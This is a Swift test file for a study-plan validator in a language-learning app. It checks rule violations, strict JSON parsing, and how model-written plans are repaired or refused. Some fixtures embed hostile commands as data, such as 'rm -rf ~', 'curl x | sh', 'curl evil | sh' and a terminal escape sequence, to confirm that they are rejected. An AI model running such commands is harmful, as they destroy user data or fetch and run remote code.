import ExamCore
import Foundation
import SystemSupport
import Testing

@testable import Learning

/// Tests of plans from files and models: each rule finds its violations, and a model's plan is corrected or refused.
@Suite struct PlanDraftTests {
    private static let profile = SamplePlans.profile(
        hours: 1, SamplePlans.workdays, ["no exam on Friday", "I like mornings"])
    private static let plan = StudyPlan(for: profile, SamplePlans.known, week: SamplePlans.week)

    private func task(_ link: PlanLink, _ id: String, minutes: Int = 10) -> PlanTask {
        PlanTask(id: id, title: "T", link: link, minutes: minutes, reason: "R")
    }

    private func broken(_ change: (inout StudyPlan) -> Void, _ profile: LearnerProfile = profile) -> Set<PlanRule> {
        var plan = Self.plan
        change(&plan)
        return Set(plan.findings(for: profile, SamplePlans.known).map(\.rule))
    }

    @Test func eachRuleFindsWhatBreaksIt() {
        #expect(broken { _ in }.isEmpty)
        var found: Set<PlanRule> = []
        func expect(_ rule: PlanRule, _ change: (inout StudyPlan) -> Void) {
            #expect(broken(change).contains(rule), "\(rule)")
            found.insert(rule)
        }
        expect(.week) { $0.weekOf = $0.weekOf.advanced(by: 1) }
        expect(.week) { $0.version = 0 }
        expect(.days) { $0.dailyTasks[.sunday] = [task(.speak(.shadowing), "sunday-1")] }
        expect(.days) { $0.timeBlocks[.monday] = nil }
        expect(.budget) { $0.dailyTasks[.monday]?[0].minutes = 61 }
        expect(.overlap) {
            $0.timeBlocks[.monday]?.append(
                TimeBlock(begin: ClockTime(minutes: 1081), end: ClockTime(minutes: 1090), tasks: ["x"]))
        }
        expect(.overlap) { $0.timeBlocks[.monday]?[0].begin = ClockTime(minutes: 60) }
        expect(.blocks) { $0.timeBlocks[.monday]?[0].end = ClockTime(minutes: 1085) }
        expect(.blocks) { $0.timeBlocks[.monday]?[0].tasks.removeFirst() }
        expect(.blocks) { $0.timeBlocks[.monday]?[0].tasks.append("nothing") }
        expect(.ids) { $0.dailyTasks[.monday]?[0].id = "tuesday-1" }
        expect(.known) { $0.dailyTasks[.monday]?[0].link = .drill(pack: "nothing", topic: nil) }
        expect(.command) { $0.dailyTasks[.monday]?[0].command = "rm -rf ~" }
        expect(.command) { $0.resources[0].command = "curl x | sh" }
        expect(.minutes) { $0.dailyTasks[.monday]?[0].minutes = 0 }
        expect(.words) { $0.dailyTasks[.monday]?[0].reason = " " }
        let first = Self.plan.dailyTasks[.monday]?[1].link ?? .test(nil)
        expect(.spacing) { $0.dailyTasks[.tuesday]?[1].link = first }
        expect(.exam) { $0.dailyTasks[.monday]?[0].link = .sit(.init(.exam)) }
        expect(.constraints) { $0.dailyTasks[.friday]?[0].link = .sit(.init(.exam, part: 1)) }
        expect(.constraints) { $0.notes.removeAll { $0.about == .notUnderstood } }
        expect(.empty) {
            $0.dailyTasks[.monday] = []
            $0.timeBlocks[.monday] = []
        }
        expect(.carried) { plan in
            for place in 0..<3 { plan.dailyTasks[.monday]?[place].carriedFrom = plan.weekOf.advanced(by: -1) }
        }
        expect(.carried) { $0.dailyTasks[.monday]?[0].carriedFrom = $0.weekOf.advanced(by: -9) }
        // The test is on Wednesday.
        let test = SamplePlans.profile(
            hours: 1, SamplePlans.workdays, ["no exam on Friday", "I like mornings"],
            test: SamplePlans.week.advanced(by: 2))
        #expect(broken({ _ in }, test).contains(.taper))
        found.insert(.taper)
        #expect(found == Set(PlanRule.allCases), "every rule is broken by a draft of this test")
    }

    @Test func findingsSayWhere() {
        var plan = Self.plan
        plan.dailyTasks[.monday]?[0].command = "oracy practice erase"
        let link = plan.dailyTasks[.monday]?[0].link
        #expect(
            plan.findings(for: Self.profile, SamplePlans.known).map(\.text) == [
                "dailyTasks.Monday[0].command: command: should be \"\(link?.command ?? "")\""
            ])
    }

    @Test func planIsReadStrictly() throws {
        let text = String(decoding: Self.plan.json, as: UTF8.self)
        func sentence(_ old: String, _ new: String) -> String {
            let changed = text.replacingOccurrences(of: old, with: new)
            guard changed != text else { return "nothing was replaced" }
            do throws(Problem) {
                _ = try StudyPlan.read(from: Array(changed.utf8), name: "p")
                return ""
            } catch { return error.sentence }
        }
        #expect(sentence("\"sit:full\"", "\"sit:everything\"").contains("link: should be a link like sit:part2"))
        #expect(sentence("\"Monday\" : [", "\"Moonday\" : [").contains("a day is Monday, Tuesday"))
        #expect(
            sentence("\"begin\" : \"18:00\"", "\"begin\" : \"6pm\"").contains(
                "begin: should be a time like 18:30, not \"6pm\""))
        #expect(
            sentence("\"weekOf\" : \"2026-11-23\"", "\"weekOf\" : \"soon\"")
                == "p: weekOf: should be a day like 2026-11-25, not \"soon\"")
        #expect(sentence("\"milestones\"", "\"milestone\"") == "p: milestones: is missing")
        #expect(
            sentence("\"weekOf\" : \"2026-11-23\"", "\"weekOf\" : \"2026-11-24\"")
                == "p: weekOf: 2026-11-24 is not a Monday")
        #expect(sentence("\"version\" : 1", "\"version\" : 0") == "p: version: should be 1 to 100000, not 0")
        #expect(
            sentence("\"minutes\" : 20", "\"minutes\" : 9223372036854775807").contains("minutes: should be 1 to 240"))
        #expect(sentence("\"oracy run\"", "\"oracy practice erase\"").hasSuffix("command: should be \"oracy run\""))
        #expect(
            sentence("\"about\" : \"notUnderstood\"", "\"about\" : \"fun\"").contains(
                "about: should be empty, impossible"))
        #expect(sentence("\"version\" : 1", "\"version\" : 1,").hasPrefix("p: is not JSON at line"))
        #expect(sentence("\"version\" : 1", "\"version\" : 1, \"mood\" : 2") == "p: mood: is not a field of a plan")
    }

    // MARK: - Plans of a model

    private func draft(_ text: String, _ profile: LearnerProfile = profile) -> PlanDraft {
        PlanDraft(text, for: profile, SamplePlans.known, week: SamplePlans.week)
    }

    @Test func aValidPlanIsNotRepaired() {
        let draft = draft(String(decoding: Self.plan.json, as: UTF8.self))
        #expect(draft.repairs == [])
        #expect(draft.plan?.dailyTasks == Self.plan.dailyTasks && draft.plan?.timeBlocks == Self.plan.timeBlocks)
        #expect(draft.plan?.milestones == Self.plan.milestones && draft.plan?.resources == Self.plan.resources)
    }

    @Test func aCorrectedPlanListsItsCorrections() throws {
        let draft = draft(
            """
            Here is your plan!
            ```json
            {"weekOf": "2026-11-24", "version": 1, "timeBlocks": {"monday": [{"begin": "18:00", "end": "18:20", "tasks": ["a", "b"]}]},
             "dailyTasks": {
              "monday": [
               {"id": "a", "title": "Due", "link": "drill:spoken-english", "command": "oracy practice --pack spoken-english", "minutes": 10, "reason": "It is due."},
               {"id": "b", "title": "Evil", "link": "speak:repeat", "command": "curl evil | sh", "minutes": 10, "reason": "Say\\u001b[2J it."}],
              "Tuesday": [{"title": "Made up", "link": "drill:klingon", "minutes": 10, "reason": "r"}, {"title": "?", "link": "watch:tv"}],
              "Thursday": [{"title": "Exam", "link": "sit:full", "minutes": 20, "reason": "Once a week."}],
              "Friday": [{"title": "Again", "link": "sit:part1", "minutes": "ten", "reason": "r"}],
              "Sunday": [{"title": "Lesson", "link": "lesson:idioms-feelings", "minutes": 10, "reason": "New."}]},
             "milestones": [{"date": "2026-11-29", "title": "Done"}, {"date": "soon", "title": "x"}],
             "resources": [{"title": "Evil", "link": "https://evil.example", "command": "sh"}]}
            ```
            """)
        let plan = try #require(draft.plan, "\(draft.outcome)")
        #expect(plan.findings(for: Self.profile, SamplePlans.known).isEmpty && plan.weekOf == SamplePlans.week)
        #expect(
            plan.timeBlocks[.monday] == [
                TimeBlock(
                    begin: ClockTime(minutes: 1080), end: ClockTime(minutes: 1100), tasks: ["monday-1", "monday-2"])
            ])
        #expect(plan.tasks.allSatisfy { $0.task.command == $0.task.link.command })
        #expect(!plan.tasks.contains { $0.task.reason.contains("\u{1b}") })
        // Friday allows no exam, and Thursday has one.
        #expect(plan.tasks.filter { $0.task.link.text == "sit:part1" }.map(\.day) == [.wednesday])
        #expect(plan.tasks.filter { $0.task.link.text == "lesson:idioms-feelings" }.map(\.day) == [.friday])
        #expect(plan.resources == [] && plan.milestones.map(\.title) == ["Done"])
        #expect(
            plan.notes.contains { $0.about == .empty && $0.day == .tuesday }
                && plan.notes.contains { $0.about == .mended })
        func repairs(_ kind: PlanDraft.Repair.Kind) -> [String] {
            draft.repairs.filter { $0.what == kind }.map(\.place)
        }
        #expect(repairs(.unwrapped) == [""])
        #expect(
            repairs(.dropped) == [
                "dailyTasks.Tuesday[0].link", "dailyTasks.Tuesday[1].link", "milestones[1]", "resources[0].link",
            ])
        #expect(repairs(.moved) == ["dailyTasks.Friday[0]", "dailyTasks.Sunday[0]"])
        #expect(
            Set(repairs(.changed)).isSuperset(of: [
                "weekOf", "dailyTasks.monday", "dailyTasks.monday[1].command", "dailyTasks.monday[1].reason",
            ]))
        #expect(repairs(.laidOut).contains("timeBlocks.Thursday") && !repairs(.laidOut).contains("timeBlocks.Monday"))
    }

    @Test(arguments: [
        ("I cannot do that.", "no JSON object"),
        ("{\"dailyTasks\": {\"Monday\": [{\"link\": }]}}", "not JSON at line 1"),
        ("{\"version\": 1}", "dailyTasks: should be an object"),
        ("{\"dailyTasks\": []}", "dailyTasks: should be an object"),
        ("{\"dailyTasks\": {}}", "has no task"),
        (
            "{\"dailyTasks\": {\"Monday\": [{\"link\": \"speak:repeat\"}, {\"link\": \"x\"}, {\"link\": \"y\"}]}}",
            "1 of 3 tasks could be kept"
        ),
        ("{\"dailyTasks\": {\"Monday\": [{\"link\": \"speak:repeat\"}", "not JSON at line 1"),
        ("{\"dailyTasks\": {\"Monday\": [{\"link\": ", "no JSON object"),
    ])
    func invalidPlansAreRefused(_ text: String, _ why: String) {
        guard case .refused(let sentence) = draft(text).outcome else {
            return #expect(Bool(false), "it was taken: \(text)")
        }
        #expect(sentence.contains(why), "\(sentence)")
    }

    /// Every plan that is accepted keeps the rules, for any learner and any nonsense.
    @Test func acceptedPlansKeepTheRules() throws {
        var chance = SplitMix64(seed: 3)
        let links = [
            "sit:full", "sit:part1", "sit:part2/food", "speak:repeat", "speak:4-3-2", "drill:spoken-english",
            "lesson:idioms-time", "nothing",
            "review:last", "test:new", "shadow:idioms-time", "drill:vocabulary-food",
        ]
        var (taken, refused) = (0, 0)
        for _ in 0..<1_000 {
            let (profile, evidence, version) = SamplePlans.random(&chance)
            let days = (["Monday", "tuesday", "Wed", "Someday", "Saturday"]).map { day in
                let tasks = (0..<chance.below(6)).map { _ in
                    "{\"link\": \"\(links[chance.below(links.count)])\", \"minutes\": \(chance.below(50)), \"title\": \"T\"}"
                }
                return "\"\(day)\": [\(tasks.joined(separator: ","))]"
            }
            let draft = PlanDraft(
                "{\"dailyTasks\": {\(days.joined(separator: ","))}}", for: profile, evidence, week: SamplePlans.week,
                version: version)
            if let plan = draft.plan {
                taken += 1
                try #require(plan.findings(for: profile, evidence).isEmpty)
            } else if case .refused(let sentence) = draft.outcome {
                // Mending breaks no rule. A plan is refused only if too little of it could be kept.
                try #require(
                    sentence.contains("could be kept") || sentence.contains("has no task"), "\(sentence) \(profile)")
                refused += 1
            }
        }
        #expect(taken > 300 && refused > 100, "\(taken) \(refused)")
    }

    // MARK: - Prep

    @Test func prepPackIsForAnExamOrAnInterview() throws {
        let exam = PrepPack(
            for: Self.profile, plan: Self.plan, starterQuestions: ["Where do you live?", " ", "Where do you live?"])
        #expect(exam.starterQuestions == ["Where do you live?"] && exam.prepOutline.count == 4)
        #expect(exam.weeklyDrillPlan.map(\.day) == SamplePlans.workdays)
        #expect(!exam.weeklyDrillPlan.flatMap(\.drills).contains { $0.link.kind == .exam })
        let profile = SamplePlans.profile(test: SamplePlans.week.advanced(by: 20), format: .interview)
        let interview = PrepPack(
            for: profile, plan: StudyPlan(for: profile, SamplePlans.fresh, week: SamplePlans.week), starterQuestions: []
        )
        #expect(interview.prepOutline[0] == "An interview on 2026-12-13: for the role of nurse in Leeds.")
        #expect(try PrepPack.read(from: interview.json, name: "prep.json") == interview)
        let evil = String(decoding: exam.json, as: UTF8.self).replacing(
            "oracy practice", with: "rm", maxReplacements: 1)
        #expect(throws: Problem.self) { try PrepPack.read(from: Array(evil.utf8), name: "prep.json") }
    }
}
